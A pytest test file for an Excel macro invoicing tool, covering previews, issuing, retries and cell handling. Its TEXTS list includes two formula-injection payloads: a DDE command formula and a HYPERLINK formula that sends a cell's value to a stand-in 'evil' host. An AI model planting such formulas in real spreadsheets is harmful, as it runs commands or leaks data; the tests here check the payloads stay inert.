"""Preview and issue from the sheets: documents, sums, options, and what stands afterwards."""

import datetime as dt
from decimal import Decimal

import openpyxl
import pytest

from tests.builders import BILLING_DATE, Shop
from tests.macros.driver import Workbook, dump
from tests.macros.test_load import add_column
from timix_xl import macros
from timix_xl.billing.issue import Issued
from timix_xl.errors import IssuedButNotWritten, RequestReused, RunRefused
from timix_xl.hosts import files
from timix_xl.macros import office
from timix_xl.workbook.refusals import ColumnMissing

pytestmark = pytest.mark.stores("sqlite", "postgresql")


def test_a_preview_writes_nothing_into_the_store(book: Workbook, shop: Shop) -> None:
    before = dump(shop.store)
    book.run(macros.preview)
    assert dump(shop.store) == before


def test_a_preview_shows_lines_subtotal_tax_and_total(book: Workbook) -> None:
    book.run(macros.preview)
    rows = [(row["Line"], row["Description"], row["Amount"]) for row in book.rows("tblPreview")]
    assert rows == [
        (1, "Work E1", 750),
        (2, "Work E2", 33.33),
        (3, "Work E3", 200),
        (4, "Work M1", 99.8),
        (None, "Subtotal", 1083.13),
        (None, "Tax S19 on 1,083.13", 205.79),
        (None, "Total", 1288.92),
    ]


def test_the_summary_of_a_preview_adds_up(book: Workbook) -> None:
    book.decide(E1="Defer", E3="Write off")
    book.run(macros.preview)
    names = ("documents", "hours", "subtotal", "tax", "total", "written_off", "deferred")
    figures = [book.shown(f"summary_{name}") for name in names]
    assert figures == [1, 0.3333, 133.13, 25.29, 158.42, 200, 750]


def test_a_preview_says_when_its_documents_are_dated_and_due(book: Workbook) -> None:
    book.put(issue_date=dt.date(2026, 2, 2))
    book.run(macros.preview)
    days = [book.shown(name).date() for name in ("summary_dated", "summary_due")]
    assert days == [dt.date(2026, 2, 2), dt.date(2026, 3, 4)]


def test_a_preview_without_a_document_has_no_dates(book: Workbook) -> None:
    book.run(macros.preview)
    book.decide(E1="Defer", E2="Defer", E3="Defer", M1="Defer")
    book.run(macros.preview)
    assert [book.shown(name) for name in ("summary_dated", "summary_due")] == [None, None]


def test_a_load_takes_the_dates_of_a_preview_away(book: Workbook) -> None:
    book.run(macros.preview)
    book.load()
    assert book.shown("summary_dated") is None


def test_a_workbook_of_before_the_dates_is_previewed_and_issued(book: Workbook) -> None:
    with book.edited() as edited:
        for name in ("timix_summary_dated", "timix_summary_due"):
            del edited.defined_names[name]
    book.run(macros.preview)
    assert book.shown("summary_total") == 1288.92
    assert book.run(macros.issue).numbers == ("INV-2026-00001",)


def test_tile_and_rounding_give_the_subtotal_of_the_preview(book: Workbook, shop: Shop) -> None:
    shop.time("R1", "R2", "R3", hours="0.3333", bill_rate=Decimal("95.55"))
    book.load()
    book.put(group_by="person")
    book.run(macros.preview)
    rounding = book.shown("rounding")
    assert rounding != 0
    whole = round(book.shown("bill_amount") + rounding, 2)
    assert whole == book.shown("summary_subtotal")


def test_the_rounding_asks_for_a_new_preview_once_the_bill_amount_moved(book: Workbook) -> None:
    book.run(macros.preview)
    book.decide(E2="Defer")
    book.run(macros.recalculate)
    assert book.shown("rounding") == "Preview again"


def test_the_rounding_is_blank_before_a_preview(book: Workbook) -> None:
    assert book.shown("rounding") in (None, "")


def test_the_options_reach_the_document(book: Workbook) -> None:
    book.put(
        issue_date=dt.date(2026, 2, 2),
        period_from=dt.date(2026, 1, 1),
        period_to=dt.date(2026, 1, 31),
        payment_terms=14,
        po_number="PO-7",
        buyer_reference="Mrs. Low",
        notes="Thank you.\nSee you in March.",
        group_by="ISO week",
    )
    document = book.run(macros.preview).documents[0]
    assert (document.issue_date, document.due_date) == (dt.date(2026, 2, 2), dt.date(2026, 2, 16))
    assert (document.po_number, document.buyer.buyer_reference) == ("PO-7", "Mrs. Low")
    assert document.notes == "Thank you.\nSee you in March."
    assert (document.period.first, document.period.last) == (dt.date(2026, 1, 1), BILLING_DATE)
    assert len(document.lines) == 2


@pytest.mark.parametrize("word", ["entry", "Task", "person", "DAY", "iso  week", "project"])
def test_each_grouping_is_understood(book: Workbook, word: str) -> None:
    book.put(group_by=word)
    assert book.run(macros.preview).documents


def test_a_po_number_of_digits_is_a_text(book: Workbook) -> None:
    book.put(po_number=4500012345)
    assert book.run(macros.preview).documents[0].po_number == "4500012345"


def test_an_issue_numbers_the_invoice(book: Workbook) -> None:
    book.run(macros.preview)
    assert book.run(macros.issue).numbers == ("INV-2026-00001",)


def test_an_issue_takes_the_billed_entries_off_the_sheet(book: Workbook) -> None:
    book.decide(E2="Defer", E3="Write off")
    book.run(macros.issue)
    assert book.column("Entry") == ["E2"]


def test_a_deferred_entry_comes_back_undecided_with_its_reason(book: Workbook) -> None:
    book.decide(E2="Defer", reason="next month")
    book.run(macros.issue)
    row = book.row("E2")
    assert (row["Decision"], row["Reason"], row["Deferred"]) == (None, "next month", 1)


def test_an_issue_shows_the_invoice_in_the_register(book: Workbook) -> None:
    book.run(macros.issue)
    row = book.rows("tblInvoices")[0]
    figures = [row[name] for name in ("Number", "Subtotal", "Tax", "Total", "Status")]
    assert figures == ["INV-2026-00001", 1083.13, 205.79, 1288.92, "Issued"]


def test_an_issue_clears_the_options_of_the_run(book: Workbook) -> None:
    book.put(issue_date=dt.date(2026, 2, 2), notes="once", payment_terms=14)
    book.run(macros.issue)
    cells = [book.shown(name) for name in ("issue_date", "notes", "payment_terms")]
    assert cells == [None, None, 14]


def test_an_issue_empties_the_preview(book: Workbook) -> None:
    book.run(macros.preview)
    book.run(macros.issue)
    assert book.rows("tblPreview") == []


def test_the_status_says_what_the_issue_did(book: Workbook) -> None:
    book.decide(E2="Defer", E3="Write off")
    book.run(macros.issue)
    assert book.shown("status") == (
        "Issued INV-2026-00001: 2 entries billed, 1 deferred, 1 written off."
    )


def test_a_run_with_no_bill_row_commits_without_a_number(book: Workbook) -> None:
    book.decide(E1="Defer", E2="Defer", E3="Defer", M1="Write off")
    assert book.run(macros.issue).numbers == ()
    assert book.shown("status").startswith("Committed without an invoice: 0 entries billed")


def test_what_the_sheet_shows_is_what_is_issued(book: Workbook) -> None:
    plan = book.run(macros.preview)
    book.run(macros.issue)
    assert book.rows("tblInvoices")[0]["Total"] == float(plan.documents[0].total)


def test_the_store_holds_after_an_issue(book: Workbook) -> None:
    book.decide(E2="Defer", E3="Write off")
    book.run(macros.issue)
    book.run(macros.verify_store)
    assert book.shown("status") == "Everything holds: 1 documents and 4 entries."


def test_the_first_of_many_problems_are_in_checks(
    book: Workbook, shop: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(office, "MOST_PROBLEMS", 2)
    book.run(macros.issue)
    shop.force("UPDATE entries SET state = 'written_off' WHERE id IN ('E1', 'E2', 'E3')")
    found = book.run(macros.verify_store)

    assert len(found.problems) > 2
    assert book.codes() == [one.code for one in found.problems[:2]]
    assert book.shown("status") == f"{len(found.problems)} problems: the first 2 are in Checks."


def test_refused_rows_are_marked_and_listed_with_their_cells(book: Workbook) -> None:
    book.decide(E2="Maybe")
    with pytest.raises(RunRefused):
        book.run(macros.issue)
    (row,) = book.rows("tblChecks")
    assert (row["Where"], row["Code"]) == ("Entries!L11", "ENTRY-06")
    assert "Maybe" in book.row("E2")["Check"]


def test_a_fault_is_a_link_to_its_cell(book: Workbook) -> None:
    book.decide(E2="Maybe")
    book.run(macros.preview)
    cell = openpyxl.load_workbook(book.path)["Checks"]["A5"]
    assert cell.hyperlink.location == "'Entries'!L11"


def test_links_go_with_their_faults(book: Workbook) -> None:
    book.decide(E2="Maybe")
    book.run(macros.preview)
    book.decide(E2="Bill")
    book.run(macros.preview)
    assert openpyxl.load_workbook(book.path)["Checks"]["A5"].hyperlink is None


def test_marks_go_once_the_row_is_right(book: Workbook) -> None:
    book.decide(E2="Maybe")
    book.run(macros.preview)
    book.decide(E2="Bill")
    book.run(macros.preview)
    assert book.column("Check") == [None] * 4
    assert book.codes() == []


def test_a_refusal_stands_in_the_status_cell_with_its_code(book: Workbook) -> None:
    book.decide(E2="Maybe")
    with pytest.raises(RunRefused):
        book.run(macros.issue)
    assert book.shown("status").endswith("[RUN-02]")


def test_a_preview_with_faults_is_not_told_as_good_news(book: Workbook) -> None:
    book.decide(E2="Maybe")
    book.run(macros.preview)
    status = book.shown("status")
    assert status.endswith("1 fault stops an issue: see Checks. [RUN-02]")


def test_a_long_message_gets_the_height_that_it_needs(book: Workbook) -> None:
    book.decide(E2="Maybe " * 40)
    book.run(macros.preview)
    rows = openpyxl.load_workbook(book.path)["Checks"].row_dimensions
    assert rows[5].height > 30


# Retries.


def crash_after_commit(book: Workbook) -> Issued:
    """Issue, and lose the sheets before they are saved."""
    with files.open_book(book.path) as opened:
        return macros.issue(opened, book.desk)  # type: ignore[no-any-return]  # a macro's Any


def test_a_retry_after_a_crash_returns_the_first_result(book: Workbook, shop: Shop) -> None:
    book.decide(E2="Defer")
    first = crash_after_commit(book)
    again = book.run(macros.issue)
    assert (again.run, again.numbers) == (first.run, first.numbers)
    assert shop.value("SELECT count(*) FROM documents") == 1


def test_a_retry_after_a_crash_refreshes_the_sheets(book: Workbook) -> None:
    book.decide(E2="Defer")
    crash_after_commit(book)
    book.run(macros.issue)
    assert (book.column("Entry"), len(book.rows("tblInvoices"))) == (["E2"], 1)


def test_a_retry_with_other_decisions_is_a_conflict(book: Workbook) -> None:
    book.decide(E2="Defer")
    crash_after_commit(book)
    book.decide(E2="Bill")
    with pytest.raises(RequestReused):
        book.run(macros.issue)


def test_a_sheet_that_cannot_show_the_issue_says_that_it_stands(book: Workbook, shop: Shop) -> None:
    with book.edited() as edited:
        edited["Invoices"]["A8"] = "mine"
    book.run(macros.issue)
    shop.time("N1", "N2", on="2026-01-09")
    book.load()
    with pytest.raises(IssuedButNotWritten) as refusal:
        book.run(macros.issue)
    assert refusal.value.message.startswith("INV-2026-00002 issued, but acme.xlsx")
    assert "Invoices!A8" in refusal.value.message


def test_a_missing_column_is_found_before_anything_is_issued(book: Workbook, shop: Shop) -> None:
    with book.edited() as edited:
        edited["Invoices"]["J6"] = "Money in"
        edited["Invoices"].tables["tblInvoices"].tableColumns[9].name = "Money in"
    before = dump(shop.store)
    with pytest.raises(ColumnMissing):
        book.run(macros.issue)
    assert dump(shop.store) == before


# Texts.

TEXTS = {
    "formula": "=cmd|'/C calc'!A0",
    "link": '=HYPERLINK("http://evil/?"&B2,"details")',
    "plus": "+1 for the crane",
    "minus": "-2 as agreed",
    "at": "@home",
    "lines": "first\nsecond\n\nfourth",
    "long": "wörd " * 999 + "end.",
    "rtl": "\u05e9\u05dc\u05d5\u05dd \u0627\u0644\u0639\u0627\u0644\u0645",
    "emoji": "🚧 site 👩‍👩‍👧 visit",
    "apostrophe": "'quoted",
    "error": "#N/A",
    "truth": "TRUE",
    "digits": "00123",
    "escape": "_x000D_ literally",
    "blanks": "  two before, one after ",
}


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_a_text_reaches_the_sheet_and_the_invoice_as_it_is(
    book: Workbook, shop: Shop, text: str
) -> None:
    shop.change("entries", {"id": "E1"}, description=text)
    book.load()
    assert (book.row("E1")["Description"], book.run(macros.preview).faults) == (text, ())


def test_a_formula_as_text_is_a_text_cell(book: Workbook, shop: Shop) -> None:
    shop.change("entries", {"id": "E1"}, description="=1+1")
    book.load()
    cell = openpyxl.load_workbook(book.path)["Entries"][f"E{book.number_of('E1')}"]
    assert (cell.data_type, cell.value) in (("s", "=1+1"), ("f", "=1+1"))
    assert book.row("E1")["Description"] == "=1+1"


def test_a_formula_as_text_is_text_in_the_preview_too(book: Workbook, shop: Shop) -> None:
    shop.change("entries", {"id": "E1"}, description="=1+1")
    book.load()
    book.run(macros.preview)
    assert "=1+1" in book.column("Description", "tblPreview")


def test_a_user_column_does_not_disturb_an_issue(book: Workbook) -> None:
    add_column(book, "Mine", {"E2": "keep"})
    book.decide(E2="Defer")
    book.run(macros.issue)
    assert book.row("E2")["Mine"] == "keep"
